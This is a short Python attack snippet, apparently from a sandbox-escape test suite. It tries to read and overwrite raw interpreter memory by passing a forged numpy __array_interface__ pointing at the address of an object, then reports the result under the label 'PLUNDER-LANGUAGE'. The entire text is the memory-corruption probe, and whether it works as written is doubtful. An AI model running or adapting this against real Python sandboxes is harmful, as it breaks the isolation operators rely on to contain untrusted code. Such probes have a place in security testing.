# attack: language | reads memory through labels to find the interpreter's functions
def peek(address, words):
    interface = {"data": (address, False), "shape": (words,), "typestr": "<i8", "version": 3}
    return np.asarray(pd.Series([interface], index=["__array_interface__"]))
words = peek(id(log), 8)
box = np.array([None], dtype=object)
words[0] = id(box)
log("PLUNDER-LANGUAGE", words[2])
